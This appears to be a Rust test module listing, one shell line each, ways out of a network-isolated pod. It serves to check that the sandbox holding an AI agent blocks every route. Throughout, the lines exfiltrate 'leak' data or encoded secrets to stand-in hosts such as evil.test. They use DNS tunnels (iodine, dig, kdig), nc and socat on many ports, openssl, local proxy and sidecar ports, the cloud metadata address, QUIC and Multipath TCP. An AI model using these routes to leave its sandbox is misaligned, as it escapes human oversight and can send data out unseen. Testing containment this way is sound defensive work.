//! Ways out of a pod, with real tools: one shell line each, bounded in time. What keeps an agent in must hold them all.

use std::path::Path;

use super::{OTHER, SERVER, SERVER6};

/// Every way out that the literature on netfilter and evasion knows, with real tools, each bounded in time. One shell
/// line each.
pub(crate) fn escapes() -> Vec<String> {
    let others = OTHER_ESCAPES.iter().map(|line| (*line).to_owned());
    let v4 = V4.iter().flat_map(|address| by_v4(address));
    let v6 = V6.iter().flat_map(|address| by_v6(address));
    by_name()
        .into_iter()
        .chain(v4)
        .chain(v6)
        .chain(others)
        .chain(with_other_tools())
        .collect()
}

/// Tunnels through DNS and ping, DNS over TLS, HTTPS and TCP, HTTP/3, Multipath TCP.
pub(crate) fn with_other_tools() -> Vec<String> {
    let mptcp = "import socket,sys\ns=socket.socket(socket.AF_INET6 if ':' in sys.argv[1] else socket.AF_INET,socket.SOCK_STREAM,262)\n\
                 s.settimeout(1)\ns.connect((sys.argv[1],443))\ns.send(b'leak')";
    let folder = Path::new(env!("CARGO_MANIFEST_DIR"));
    // The packages of the tests with the system's interpreter: another may be where the agent cannot execute it.
    let packages = folder.join(".venv/lib/python3.*/site-packages");
    let python = format!("PYTHONPATH=$(echo {}) /usr/bin/python3", packages.display());
    let quic = folder.join("tests/rig/quic.py").display().to_string();
    let mut lines = vec![
        // It wants to be root, and gets a device of its own: `tunnel_device`.
        "timeout 3 unshare -Ur iodine -f -r -d dns0 -P x 8.8.8.8 t.evil.test".to_owned(),
        "curl -sk -m 2 --doh-insecure --doh-url https://8.8.8.8/dns-query https://evil.test/"
            .to_owned(),
    ];
    for way in ["+tls", "+https", "+tcp", "+notcp +dnssec"] {
        lines.push(format!(
            "kdig @8.8.8.8 {way} +timeout=1 +retry=0 secret.evil.test"
        ));
    }
    for address in [SERVER, SERVER6] {
        lines.push(format!("/usr/bin/python3 -c \"{mptcp}\" {address}"));
        lines.push(format!("{python} {quic} {address}"));
    }
    lines
}

/// Ping tunnels need raw sockets, which the agent cannot have: the tool itself must say so.
pub(crate) const PING_TUNNEL: &str =
    "timeout 2 ptunnel -p 93.184.216.34 -lp 8099 -da 93.184.216.99 -dp 22";

fn by_name() -> Vec<String> {
    let mut lines = Vec::new();
    for resolver in ["8.8.8.8", "9.9.9.9", "2001:db8::10", SERVER6] {
        for way in ["", "+tcp", "-p 5353", "-p 853 +tcp"] {
            lines.push(format!(
                "dig @{resolver} {way} +time=1 +tries=1 secret-1234.evil.test"
            ));
        }
    }
    for kind in ["TXT", "NULL", "ANY", "MX", "PTR", "A", "HTTPS"] {
        lines.push(format!(
            "dig +time=1 +tries=1 dGhpcyBpcyBhIHNlY3JldA.evil.test {kind}"
        ));
    }
    lines
}

fn by_v4(address: &str) -> Vec<String> {
    let mut lines = vec![
        format!("ping -c 1 -W 1 {address}"),
        format!("curl -s -m 2 http://{address}/leak"),
        format!("curl -s -m 2 -H 'Host: evil.test' http://{address}/leak"),
        format!("curl -s -m 2 --http2-prior-knowledge http://{address}/leak"),
        format!("curl -sk -m 2 https://{address}/dns-query?dns=AAAA"),
        format!("curl -sk -m 2 --resolve evil.test:443:{address} https://evil.test/leak"),
    ];
    lines.extend(
        [22, 25, 443, 853, 3306, 7777]
            .map(|port| format!("echo leak | timeout 1 nc -w1 {address} {port}")),
    );
    lines.extend(
        [123, 443, 33434].map(|port| format!("echo leak | timeout 1 nc -u -w1 {address} {port}")),
    );
    lines
}

fn by_v6(address: &str) -> Vec<String> {
    let mut lines = vec![
        format!("ping -6 -c 1 -W 1 {address}"),
        format!("curl -s -m 2 'http://[{address}]/leak'"),
    ];
    lines.extend(
        [53, 443, 7777].map(|port| format!("echo leak | timeout 1 nc -6 -w1 {address} {port}")),
    );
    lines.extend(
        [53, 443].map(|port| format!("echo leak | timeout 1 nc -6 -u -w1 {address} {port}")),
    );
    lines
}

/// The world, the gateway, and what is special.
const V4: [&str; 8] = [
    SERVER,
    OTHER,
    "203.0.113.10",
    "198.51.100.10",
    "169.254.169.254",
    "10.0.0.1",
    "10.77.0.1",
    "10.78.0.2",
];
const V6: [&str; 7] = [
    SERVER6,
    "2001:db8::10",
    "fd00:ec2::254",
    "fd77::1",
    "fd78::2",
    "ff02::1%p0",
    "fe80::1%p0",
];
const OTHER_ESCAPES: [&str; 14] = [
    "echo leak | timeout 1 socat - UDP-SENDTO:93.184.216.34:443",
    "echo leak | timeout 1 socat - SCTP-CONNECT:93.184.216.34:443",
    "echo leak | timeout 1 socat - IP-SENDTO:93.184.216.34:253",
    "echo leak | timeout 1 socat - UDP-DATAGRAM:224.0.0.251:5353",
    "echo leak | timeout 1 socat - UDP-DATAGRAM:10.77.0.255:9999,broadcast",
    "timeout 1 openssl s_client -connect 93.184.216.34:443 -servername evil.test",
    "timeout 1 openssl s_client -connect 93.184.216.99:8443 -noservername",
    "timeout 1 openssl s_client -starttls smtp -connect 93.184.216.34:25",
    "curl -s -m 2 http://127.0.0.1:15001/",
    "curl -s -m 2 -g 'http://[::1]:15001/'",
    "curl -s -m 2 http://10.77.0.2:15001/",
    "curl -s -m 2 -x http://127.0.0.1:3128 http://93.184.216.99/leak",
    "curl -sk -m 2 -x http://127.0.0.1:3128 https://evil.test/leak",
    "curl -s -m 2 http://127.0.0.1:15000/metrics",
];
